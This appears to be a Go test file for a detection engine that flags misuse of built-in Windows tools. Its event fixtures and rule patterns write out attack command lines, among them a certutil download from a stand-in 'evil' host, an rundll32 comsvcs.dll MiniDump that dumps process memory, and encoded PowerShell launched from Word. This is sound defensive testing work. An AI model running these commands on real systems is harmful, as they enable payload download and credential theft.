package match

import (
	"testing"
	"time"

	"github.com/google/uuid"

	"lolbin-sentinel/internal/rules"
	"lolbin-sentinel/internal/schema"
)

func newMatcher(t *testing.T, defs []rules.Rule) *Matcher {
	t.Helper()
	catalog, err := rules.Load(defs)
	if err != nil {
		t.Fatalf("rules.Load() error = %v", err)
	}
	return New(rules.NewStore(catalog))
}

func makeEvent(binary, command, parent string) *schema.Event {
	return &schema.Event{
		EventID:      uuid.New(),
		Binary:       binary,
		CommandLine:  command,
		ParentBinary: parent,
		HostID:       "host-01",
		ObservedAt:   time.Now().UTC(),
	}
}

func TestEvaluate_PatternMatch(t *testing.T) {
	m := newMatcher(t, []rules.Rule{
		{
			Binary:          "certutil.exe",
			CommandPatterns: []string{"-urlcache", "http://"},
			TechniqueID:     "T1105",
			BaseSeverity:    rules.SeverityHigh,
		},
	})

	t.Run("collects all matched patterns", func(t *testing.T) {
		f := m.Evaluate(makeEvent("certutil.exe", "certutil.exe -urlcache -split -f http://x/y", ""))
		if f == nil {
			t.Fatal("expected a finding")
		}
		if len(f.MatchedPatterns) != 2 {
			t.Errorf("MatchedPatterns = %v, want both patterns", f.MatchedPatterns)
		}
		if f.Rule.TechniqueID != "T1105" {
			t.Errorf("TechniqueID = %q, want T1105", f.Rule.TechniqueID)
		}
		if f.Severity != rules.SeverityHigh {
			t.Errorf("Severity = %s, want high", f.Severity)
		}
	})

	t.Run("case-insensitive containment", func(t *testing.T) {
		f := m.Evaluate(makeEvent("CERTUTIL.EXE", "CertUtil -URLCACHE -f HTTP://evil/a", ""))
		if f == nil {
			t.Fatal("expected a finding for mixed-case command")
		}
	})

	t.Run("no pattern no finding", func(t *testing.T) {
		if f := m.Evaluate(makeEvent("certutil.exe", "certutil.exe -verify certificate.cer", "")); f != nil {
			t.Errorf("expected nil finding for legitimate use, got severity %s", f.Severity)
		}
	})

	t.Run("unknown binary", func(t *testing.T) {
		if f := m.Evaluate(makeEvent("notepad.exe", "notepad.exe foo.txt", "")); f != nil {
			t.Error("expected nil finding for unmonitored binary")
		}
	})
}

func TestEvaluate_SeverityDerivation(t *testing.T) {
	m := newMatcher(t, []rules.Rule{
		{
			Binary:             "powershell.exe",
			CommandPatterns:    []string{"-encodedcommand"},
			ParentProcessHints: []string{"winword.exe"},
			TechniqueID:        "T1059.001",
			BaseSeverity:       rules.SeverityHigh,
		},
		{
			Binary:       "psexec.exe",
			BaseSeverity: rules.SeverityMedium,
		},
	})

	t.Run("parent hint escalates one tier", func(t *testing.T) {
		f := m.Evaluate(makeEvent("powershell.exe", "powershell.exe -EncodedCommand AAA", "winword.exe"))
		if f == nil {
			t.Fatal("expected a finding")
		}
		if !f.ParentHintMatched {
			t.Error("ParentHintMatched = false, want true")
		}
		if f.Severity != rules.SeverityCritical {
			t.Errorf("Severity = %s, want critical (high escalated)", f.Severity)
		}
	})

	t.Run("no parent hint keeps base", func(t *testing.T) {
		f := m.Evaluate(makeEvent("powershell.exe", "powershell.exe -EncodedCommand AAA", "explorer.exe"))
		if f == nil {
			t.Fatal("expected a finding")
		}
		if f.ParentHintMatched {
			t.Error("ParentHintMatched = true, want false")
		}
		if f.Severity != rules.SeverityHigh {
			t.Errorf("Severity = %s, want high", f.Severity)
		}
	})

	t.Run("pattern-less match de-escalates one tier", func(t *testing.T) {
		f := m.Evaluate(makeEvent("psexec.exe", `psexec.exe \\target cmd`, ""))
		if f == nil {
			t.Fatal("expected a finding")
		}
		if f.Severity != rules.SeverityLow {
			t.Errorf("Severity = %s, want low (medium de-escalated)", f.Severity)
		}
		if len(f.MatchedPatterns) != 0 {
			t.Errorf("MatchedPatterns = %v, want empty for pattern-less rule", f.MatchedPatterns)
		}
	})
}

func TestEvaluate_MultipleRulesHighestWins(t *testing.T) {
	m := newMatcher(t, []rules.Rule{
		{Binary: "rundll32.exe", CommandPatterns: []string{"http://"}, BaseSeverity: rules.SeverityMedium},
		{Binary: "rundll32.exe", CommandPatterns: []string{"comsvcs.dll"}, BaseSeverity: rules.SeverityCritical},
		{Binary: "rundll32.exe", BaseSeverity: rules.SeverityLow},
	})

	f := m.Evaluate(makeEvent("rundll32.exe", "rundll32.exe comsvcs.dll MiniDump 624 c:\\t.dmp full", ""))
	if f == nil {
		t.Fatal("expected a finding")
	}
	if f.Severity != rules.SeverityCritical {
		t.Errorf("Severity = %s, want critical from the most severe matching rule", f.Severity)
	}
	if f.Rule.CommandPatterns[0] != "comsvcs.dll" {
		t.Errorf("wrong rule selected: %v", f.Rule.CommandPatterns)
	}
}

func TestEvaluate_TieBrokenByCatalogOrder(t *testing.T) {
	t.Run("between patterned rules", func(t *testing.T) {
		m := newMatcher(t, []rules.Rule{
			{Binary: "certutil.exe", CommandPatterns: []string{"-urlcache"}, TechniqueID: "T1105", BaseSeverity: rules.SeverityHigh},
			{Binary: "certutil.exe", CommandPatterns: []string{"-split"}, TechniqueID: "T1140", BaseSeverity: rules.SeverityHigh},
		})

		f := m.Evaluate(makeEvent("certutil.exe", "certutil.exe -urlcache -split -f http://x", ""))
		if f == nil {
			t.Fatal("expected a finding")
		}
		if f.Rule.TechniqueID != "T1105" {
			t.Errorf("tie must go to the first rule in catalog order, got %s", f.Rule.TechniqueID)
		}
	})

	t.Run("pattern-less rule loaded first", func(t *testing.T) {
		// The pattern-less rule de-escalates high to medium, tying with the
		// patterned rule. Catalog order decides, not pattern specificity.
		m := newMatcher(t, []rules.Rule{
			{Binary: "wmic.exe", TechniqueID: "T1047", BaseSeverity: rules.SeverityHigh},
			{Binary: "wmic.exe", CommandPatterns: []string{"os get"}, TechniqueID: "T1082", BaseSeverity: rules.SeverityMedium},
		})

		f := m.Evaluate(makeEvent("wmic.exe", "wmic.exe os get version", ""))
		if f == nil {
			t.Fatal("expected a finding")
		}
		if f.Severity != rules.SeverityMedium {
			t.Fatalf("Severity = %s, want medium on both branches", f.Severity)
		}
		if f.Rule.TechniqueID != "T1047" {
			t.Errorf("tie went to %s, want the first catalog entry T1047", f.Rule.TechniqueID)
		}
	})
}

func TestEvaluate_Deterministic(t *testing.T) {
	m := newMatcher(t, rules.Builtin())
	event := makeEvent("powershell.exe", "powershell.exe -nop -enc SQBFAFgA", "winword.exe")

	first := m.Evaluate(event)
	if first == nil {
		t.Fatal("expected a finding")
	}
	for i := 0; i < 10; i++ {
		next := m.Evaluate(event)
		if next == nil || next.Severity != first.Severity || next.Rule.TechniqueID != first.Rule.TechniqueID {
			t.Fatal("Evaluate must be deterministic for the same (event, catalog)")
		}
	}
}
